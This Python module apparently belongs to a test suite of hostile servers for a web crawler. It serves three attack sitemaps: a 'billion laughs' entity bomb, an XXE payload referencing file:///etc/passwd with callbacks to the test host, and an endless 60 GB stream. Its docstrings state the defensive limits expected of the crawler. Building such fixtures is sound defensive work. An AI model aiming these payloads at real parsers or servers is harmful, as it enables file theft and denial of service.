"""Sitemaps that are attacks: entities that multiply, entities that reach out, and a file without an end."""

from __future__ import annotations

from collections.abc import Iterator

from ..exchange import Answer, Request
from .script import DOMAIN, TEXT, XML, Action, Script, Wait, answer_page, head, hostile
from .slowness import BETWEEN_CHUNKS

BILLION = 1_000_000_000
_BLOCK = 500
_NAMESPACE = "http://www.sitemaps.org/schemas/sitemap/0.9"
_LEVELS = 10


def _entrance(request: Request) -> Answer | None:
    """robots.txt names the sitemap, and the home page names it again; `None` for the sitemap itself."""
    if request.target == "/robots.txt":
        text = f"User-agent: *\nDisallow:\n\nSitemap: http://{request.host}/sitemap.xml\n"
        return Answer(200, (TEXT,), text.encode())
    if request.target == "/sitemap.xml":
        return None
    return answer_page("Home", '<p>There is a <a href="/sitemap.xml">sitemap</a>.</p>')


@hostile("xml-bomb", owns_robots=True)
def xml_bomb(request: Request) -> Answer:
    """A sitemap of 1 KB whose one `loc` is an entity that grows to ten billion words ("billion laughs").

    Expand no entities but the five of XML and characters; keep what else can be read.
    """
    levels = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">\n' for level in range(1, _LEVELS + 1))
    text = (
        f'<?xml version="1.0"?>\n<!DOCTYPE urlset [\n<!ENTITY e0 "ha">\n{levels}]>\n'
        f'<urlset xmlns="{_NAMESPACE}"><url><loc>http://{request.host}/&e{_LEVELS};</loc></url>'
        f"<url><loc>http://{request.host}/plain</loc></url></urlset>\n"
    )
    return _entrance(request) or Answer(200, (XML,), text.encode())


@hostile("xxe", owns_robots=True)
def xxe(request: Request) -> Answer:
    """A sitemap whose entities and DTD name a local file and a URL of this host (`/stolen`, `/dtd`: look in the log).

    Read no file, open no connection; keep what else can be read.
    """
    text = (
        f'<?xml version="1.0"?>\n<!DOCTYPE urlset SYSTEM "http://{request.host}/dtd" [\n'
        f'<!ENTITY file SYSTEM "file:///etc/passwd">\n<!ENTITY net SYSTEM "http://{request.host}/stolen">\n]>\n'
        f'<urlset xmlns="{_NAMESPACE}"><url><loc>http://{request.host}/?q=&file;</loc></url>'
        f"<url><loc>http://{request.host}/?q=&net;</loc></url>"
        f"<url><loc>http://{request.host}/plain</loc></url></urlset>\n"
    )
    return _entrance(request) or Answer(200, (XML,), text.encode())


@hostile("endless-sitemap", owns_robots=True)
def endless_sitemap(request: Request) -> Answer | Script:
    """A sitemap of a billion URLs in one file (60 GB), sent as long as the client reads.

    Read it as a stream, take what the protocol allows (50,000 URLs, 50 MB), say that there was more, and hang up.
    """
    return _entrance(request) or Script(200, _billion(request))


def _billion(request: Request) -> Iterator[Action]:
    opening = f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="{_NAMESPACE}">\n'
    yield head(request, 200, XML) + opening.encode()
    line = f"<url><loc>http://endless-sitemap.{DOMAIN}/p/%d</loc></url>\n".encode()
    for start in range(0, BILLION, _BLOCK):
        yield b"".join([line % number for number in range(start, start + _BLOCK)])
        yield Wait(BETWEEN_CHUNKS / 2)
    yield b"</urlset>\n"
